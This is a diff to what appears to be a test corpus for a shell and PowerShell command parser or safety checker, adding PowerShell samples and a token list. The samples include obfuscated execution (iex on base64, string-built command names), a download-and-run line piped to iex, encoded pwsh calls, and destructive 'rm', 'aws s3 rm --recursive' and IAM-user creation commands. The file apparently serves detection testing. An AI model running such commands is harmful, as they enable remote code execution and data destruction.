@@ -78,6 +78,28 @@ perl -e 'open(F,"|-","sh"); system join(" ",@ARGV); eval "qx(rm x)"'; awk -v c=x
 node -e 'const {execSync:x}=require("child_process"); x(`rm ${1}`)'; sed 's/.*/rm x/e;1e ls' f; vim -es -c '!rm x'
 """,
 )
+POWERSHELL = (
+    """param([string]$Name = 'x', [switch]$Force)
+$ErrorActionPreference = 'Stop'
+foreach ($f in Get-ChildItem -Path ./build -Filter *.tmp -Recurse) { Remove-Item $f.FullName -Force:$Force }
+if (Test-Path "$PSScriptRoot\\x") { rm x -r } elseif ($a -eq 1) { Write-Host "a `"b`" $(Get-Date)" } else { exit 1 }
+function Invoke-It { [CmdletBinding()] param($A, $B = 2) process { & $A @args } }
+$h = @{ Path = 'a'; Recurse = $true }; Remove-Item @h
+try { Set-Content x -Value @"
+one $Name
+"@ } catch [IO.IOException] { throw } finally { pop-location }
+1..3 | ForEach-Object { "x$_" } | Where-Object { $_ -like 'x*' } | Out-File -Append y.txt 2>&1
+switch ($x) { 'a' { b } default { c } }
+""",
+    r"""iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('cgBtACAAeAA='))); & ('{1}{0}' -f 'm','r') x
+-join ([char[]](114, 109)) | % { & $_ x }; $x = 'Remove' + '-Item'; . $x y; (New-Object Net.WebClient).DownloadString('http://a') | iex
+aws s3 rm s3://a --recursive && New-IAMUser -UserName b || git push -f; pwsh -NoP -enc cgBtACAAeAA= --% a;b
+class A { [string] $n; [void] Go([int] $i) { rm $i } }; [A]::new().Go(1); $x?.y ?? $z; $a ? 1 : 2; "a,b".Split(',')[0].Replace('a', 'rm')
+""",
+)
+POWERSHELL_WORDS = r"""$( @( ( ) { } [ ] ' " ` $a $_ ${a} $env:A @a @{ a= ; , | || && & . :: . ? ?? ?. ?[ - -- --% -f\x20 -join\x20 -replace\x20 -split\x20 .. + * % ! = += > >> 2>&1 <
+    @"\n \n"@ @'\n \n'@ # <# #> `\n \n if( else{ foreach($a\x20in\x20 while( do{ switch( try{ catch{ function\x20a{ param( class\x20A{ [char] [string] [int] [scriptblock]::Create(
+    iex\x20 rm\x20 %{ ?{ .Replace( .Invoke() -Recurse\x20 -Path: \x20 a 1 0x1 1kb 1..9 pwsh\x20-c\x20 -enc\x20 Invoke-Expression\x20 Get-Content\x20 New-IAMUser\x20 Set-Alias\x20 ./x.ps1 \xe2\x80\x93 \xe2\x80\x9c"""
 SHELL_WORDS = r"""$( ) ` ' " $(( )) ${ } { , .. {1..9} {a,b} ; & && | || > >> < << <<EOF <<- <<< \n \\\\\n for\x20i\x20in\x20 ;do\x20 ;done\x20 if\x20 then\x20
     fi\x20 case\x20x\x20in\x20 esac ;; a) while\x20 until\x20 f(){\x20 ;} a= a+= $a ${a} ${a:- ${a# "$@" $@ !\x20 [[ ]] eval\x20 sh\x20-c\x20 sudo\x20 xargs\x20 env\x20
     printf\x20%s\x20 echo\x20 cat\x20 base64\x20-d tr\x20a-z\x20b alias\x20a= find\x20.\x20-exec\x20 \x20{}\x20 git\x20push\x20 rm\x20-rf\x20 aws\x20s3\x20rm\x20 a\x20 \\\\ # ~ * ? set\x20--\x20
